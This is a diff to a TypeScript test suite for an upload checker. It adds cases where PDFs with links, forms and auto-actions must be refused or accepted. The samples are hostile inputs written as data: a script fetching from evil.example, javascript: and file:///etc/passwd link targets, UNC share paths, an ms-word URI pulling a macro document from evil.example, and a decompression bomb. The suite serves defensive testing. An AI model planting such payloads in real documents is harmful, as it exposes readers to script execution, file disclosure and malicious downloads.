@@ -1,6 +1,6 @@
-import { deflateSync } from 'node:zlib'
 import { strToU8, zipSync } from 'fflate'
 import { eicar } from '../services/eicar.ts'
+import { objectStream, pdfOf } from './costlyContent.ts'
 import { pdf, picture } from './uploading.ts'
 
 /** What becomes of an upload: it is taken, or refused with a status and, where several fit, a word of its reason. */
@@ -20,20 +20,10 @@ const brokenImage = [422, 'This picture is damaged or too large'] as const
 const brokenPdf = [422, 'This PDF is damaged'] as const
 const lockedPdf = [422, 'This PDF is protected'] as const
 const activePdf = [422, 'runs scripts or carries other files'] as const
+const complexPdf = [422, 'This PDF is too complex to check'] as const
 
 const join = (...parts: readonly (string | Uint8Array)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))
 const script = '<script>fetch("https://evil.example")</script>'
-
-/** A PDF whose objects are given; what a reader needs beside them is there. */
-function pdfOf(...objects: readonly (string | Uint8Array)[]): Buffer {
-  return join('%PDF-1.7\n', ...objects, '\nxref\n0 1\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n')
-}
-
-function objectStream(objects: string | Uint8Array, type = '/ObjStm'): Buffer {
-  const packed = deflateSync(join('7 0 ', objects))
-  const about = `/Type ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}`
-  return join(`5 0 obj << ${about} >>\nstream\n`, packed, '\nendstream endobj\n')
-}
 
 const action = (name: string, rest: string) => `1 0 obj << /OpenAction << /S /${name} ${rest} >> >> endobj\n`
 
@@ -101,14 +91,14 @@ function ofTwoKinds(jpeg: Uint8Array, png: Uint8Array, gif: Uint8Array): Shape[]
 }
 
 async function ofPixels(): Promise<Shape[]> {
-  const large = await picture('png', 8000, 5000)
+  const large = await picture('png', 8192, 6144)
   return [
     { what: 'a PNG of 50,000 x 50,000', content: await pngOf(50_000, 50_000), verdict: brokenImage },
     { what: 'a PNG of 2,147,483,647 x 1', content: await pngOf(2_147_483_647, 1), verdict: brokenImage },
     { what: 'a PNG of no pixels', content: await pngOf(0, 0), verdict: brokenImage },
     // What counts are the pixels it has, and with these it is drawn anew.
     { what: 'a GIF on a screen of 65,535 x 65,535', content: await gifOf(65_535, 65_535), verdict: 'taken' },
-    { what: 'a PNG of 40 million pixels', content: large, verdict: 'taken' },
+    { what: 'a PNG of 50 million pixels', content: large, verdict: 'taken' },
   ]
 }
 
@@ -141,9 +131,63 @@ function ofPdfs(): Shape[] {
     { what: 'a PDF with a packed script', content: pdfOf(objectStream('<< /JS (x) >>')), verdict: activePdf },
     { what: 'a PDF packed in codes', content: pdfOf(objectStream('<< >>', '/Obj#53tm')), verdict: brokenPdf },
     { what: 'a PDF packed otherwise', content: pdfOf('<< /Type /ObjStm >>\nstream\nxx'), verdict: brokenPdf },
-    { what: 'a PDF that unpacks to 70 MB', content: pdfOf(objectStream(bomb)), verdict: brokenPdf },
+    { what: 'a PDF that unpacks to 70 MB', content: pdfOf(objectStream(bomb)), verdict: complexPdf },
     { what: 'a packed PDF', content: pdfOf(objectStream('<< /Type /Page >>')), verdict: 'taken' },
     { what: 'a PDF that speaks of JavaScript', content: pdfOf('(JavaScript, /JavaScripting)'), verdict: 'taken' },
+  ]
+}
+
+/** [V14] What a PDF does by itself or at a click beside scripts, and the links of ordinary documents. */
+function ofActions(): Shape[] {
+  const link = (target: string) => pdfOf(`<< /Subtype /Link /F 4 /A << /S /URI /URI ${target} >> >>`)
+  const hex = (text: string) => `<${Buffer.from(text).toString('hex')}>`
+  const taken = [
+    '(https://broker.example/a\\(b\\))',
+    '(http://broker.example)',
+    '(mailto:desk@broker.example)',
+    '(tel:+97140000000)',
+    '(www.broker.example)',
+    hex('https://broker.example'),
+    `(https://broker.example/?q=${'a'.repeat(2000)})`,
+  ]
+  const refused = [
+    '(javascript:alert\\(1\\))',
+    '(file:///etc/passwd)',
+    '(\\\\\\\\server\\\\share)',
+    '(//server/share)',
+    '( \\n\\146ile://server/share)',
+    hex('\\\\server\\share'),
+    '(ms-word:ofe|u|http://evil.example/x.docm)',
+    '12 0 R',
+    `(${' '.repeat(2000)}file:///etc/passwd)`,
+  ]
+  return [
+    ...taken.map((target) => ({
+      what: `a PDF that links to ${target.slice(0, 50)}`,
+      content: link(target),
+      verdict: 'taken' as const,
+    })),
+    ...refused.map((target) => ({
+      what: `a PDF that links to ${target.slice(0, 50)}`,
+      content: link(target),
+      verdict: activePdf,
+    })),
+    { what: 'a PDF with an XFA form', content: pdfOf('/AcroForm << /XFA [(template) 5 0 R] >>'), verdict: activePdf },
+    { what: 'a PDF with a packed XFA form', content: pdfOf(objectStream('<< /XFA 5 0 R >>')), verdict: activePdf },
+    {
+      what: 'a PDF that sends a form',
+      content: pdfOf(action('SubmitForm', '/F (http://x.example)')),
+      verdict: activePdf,
+    },
+    { what: 'a PDF that imports data', content: pdfOf(action('ImportData', '/F (x.fdf)')), verdict: activePdf },
+    { what: 'a PDF that opens another', content: pdfOf(action('GoToR', '/F (x.pdf)')), verdict: activePdf },
+    { what: 'a PDF that opens one within', content: pdfOf(action('GoToE', '/T << >>')), verdict: activePdf },
+    {
+      what: 'a PDF that reads a share',
+      content: pdfOf('<< /Length 0 /F (\\\\\\\\server\\\\x) >>'),
+      verdict: activePdf,
+    },
+    { what: 'a PDF that goes to a page', content: pdfOf(action('GoTo', '/D [3 0 R /Fit]')), verdict: 'taken' },
   ]
 }
 
@@ -178,6 +222,7 @@ export async function corpus(): Promise<Shape[]> {
     ...(await ofPixels()),
     ...ofParts(jpeg, png, gif),
     ...ofPdfs(),
+    ...ofActions(),
     ...ofOtherTypes(),
     { what: 'a byte less than the most', content: sized(most - 1), verdict: 'taken' },
     { what: 'the most there may be', content: sized(most), verdict: 'taken' },
